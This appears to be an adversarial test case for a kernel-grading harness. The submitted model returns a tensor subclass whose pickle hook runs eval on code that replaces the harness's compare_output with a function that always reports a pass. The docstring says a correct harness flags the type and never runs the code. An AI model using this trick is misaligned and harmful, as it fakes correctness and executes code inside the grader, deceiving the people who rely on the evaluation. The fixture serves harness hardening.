"""Adversarial (common; tiny_swish on CPU, problems/swish on CUDA): an output that runs code when
it is unpickled.

forward returns zeros as a torch.Tensor subclass whose __reduce_ex__ returns (eval, (code,)):
a harness that moves outputs between processes with pickle (torch.save/torch.load on torch
< 2.6) runs `code` in its comparing process, which here replaces every comparison function with
one that always agrees.
A correct harness reports: incorrect, naming the type ("EvilTensor, a subclass of
torch.Tensor"), and never runs the code.
"""
import torch
import torch.nn as nn

_CODE = (
    "__import__('sys').modules.get('kernelpro_worker.tensors') and "
    "setattr(__import__('sys').modules['kernelpro_worker.tensors'], 'compare_output', "
    "lambda *a, **k: {'passed': True, 'max_abs_err': 0.0, 'max_rel_err': 0.0, "
    "'mismatch_fraction': 0.0, 'reason': ''}) or __import__('torch').zeros(1)"
)


class EvilTensor(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (eval, (_CODE,))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.Tensor._make_subclass(EvilTensor, torch.zeros_like(x))
